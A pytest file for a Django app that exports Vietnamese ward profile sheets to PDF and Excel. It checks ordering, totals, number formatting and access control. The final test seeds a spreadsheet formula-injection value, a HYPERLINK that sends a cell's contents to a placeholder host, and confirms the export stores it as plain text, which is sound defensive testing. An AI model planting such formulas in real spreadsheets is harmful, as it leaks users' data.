"""The ward profile sheet, end to end: the button on the ward page, the PDF and the workbook."""

import io

import openpyxl
import pypdf
from django.urls import reverse

from documents.models import Job, JobStatus
from wards.models import AreaKind, ResidentialArea


def make_areas(ward):
    for kind, name, households, population in [
        (AreaKind.THON, "Thôn Đông", 120, 450),
        (AreaKind.KHU_PHO, "Khu phố Ánh Dương", 1200, 4500),
        (AreaKind.AP, "Ấp Bắc", None, None),
        (AreaKind.THON, "Thôn Dân Chủ", 80, 300),
        (AreaKind.KHU_PHO, "Khu phố An Hòa", 15, 60),
    ]:
        ResidentialArea.objects.create(
            ward=ward, kind=kind, name=name, households=households, population=population
        )


def print_profile(client, ward, fmt):
    response = client.post(
        reverse("documents:generate"), {"kind": "wards.profile", "fmt": fmt, "object": ward.pk}
    )
    assert response.status_code == 302
    job = Job.objects.latest("pk")
    assert job.status == JobStatus.DONE, job.error
    return job


def test_the_ward_page_has_the_print_buttons(login, people, units):
    page = login(people["ward_official"]).get(reverse("wards:unit", args=["90001"]))
    html = page.content.decode()
    assert f'action="{reverse("documents:generate")}"' in html
    assert 'data-kind="wards.profile" data-fmt="pdf"' in html
    assert 'data-kind="wards.profile" data-fmt="xlsx"' in html
    assert "In hồ sơ phường (PDF)" in html


def test_the_profile_pdf_lists_areas_in_vietnamese_order_with_totals(login, people, units):
    make_areas(units["ward"])
    job = print_profile(login(people["ward_official"]), units["ward"], "pdf")
    assert job.filename == "Hồ sơ Phường An.pdf"
    text = pypdf.PdfReader(io.BytesIO(job.file.read())).pages[0].extract_text()
    assert "UBND PHƯỜNG AN" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert "HỒ SƠ PHƯỜNG AN" in text
    assert "\x00" not in text
    lines = text.splitlines()
    order = [
        next(i for i, line in enumerate(lines) if name in line)
        for name in (
            "Ấp Bắc",
            "Khu phố An Hòa",
            "Khu phố Ánh Dương",
            "Thôn Dân Chủ",
            "Thôn Đông",
        )
    ]
    # A < Á in the tones, â after a, D before Đ (Vietnamese alphabet order).
    assert order == sorted(order)
    assert "Khu phố Ánh Dương Khu phố 1.200 4.500" in text
    assert "Cộng: 5 khu 1.415 5.310" in text


def test_the_profile_workbook_has_numbers_as_numbers(login, people, units):
    make_areas(units["ward"])
    job = print_profile(login(people["district"]), units["ward"], "xlsx")
    assert job.filename == "Hồ sơ Phường An.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert sheet.title == "Khu dân cư"
    assert rows[0][0] == "Hồ sơ Phường An"
    header = rows.index(("STT", "Tên khu dân cư", "Loại", "Số hộ", "Nhân khẩu"))
    assert rows[header + 1] == (1, "Ấp Bắc", "Ấp", None, None)
    assert rows[header + 3] == (3, "Khu phố Ánh Dương", "Khu phố", 1200, 4500)
    assert rows[-1] == (None, "Cộng: 5 khu", None, 1415, 5310)


def test_a_ward_without_areas_still_prints(login, people, units):
    job = print_profile(login(people["ward_official"]), units["ward"], "pdf")
    text = pypdf.PdfReader(io.BytesIO(job.file.read())).pages[0].extract_text()
    assert "Cộng: 0 khu" in text


def test_another_wards_profile_is_not_found(login, people, units):
    client = login(people["outsider"])
    response = client.post(
        reverse("documents:generate"),
        {"kind": "wards.profile", "fmt": "pdf", "object": units["ward"].pk},
    )
    assert response.status_code == 404


def test_the_profile_pdf_counts_the_register_by_kind(login, people, units):
    from tests.register import make_scheme, seed_kinds

    kinds = seed_kinds()
    for n in range(3):
        make_scheme(units["ward"], kinds["to-tu-quan"], f"Tổ tự quản số {n + 1}")
    make_scheme(units["ward"], kinds["to-hoa-giai"], "Tổ hòa giải khu 1")
    make_scheme(units["sibling"], kinds["to-hoa-giai"], "Tổ hòa giải của phường khác")
    job = print_profile(login(people["ward_official"]), units["ward"], "pdf")
    reader = pypdf.PdfReader(io.BytesIO(job.file.read()))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "MÔ HÌNH TỰ QUẢN VỀ ANTT THEO LOẠI" in text.upper()
    assert "Tổ tự quản ANTT 3" in text
    assert "Tổ hòa giải 1" in text


def test_a_name_written_as_a_formula_is_exported_as_text(login, people, units):
    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
    ResidentialArea.objects.create(ward=units["ward"], kind=AreaKind.THON, name=hostile)
    job = print_profile(login(people["ward_official"]), units["ward"], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert [cell.data_type for cell in cells] == ["s"]
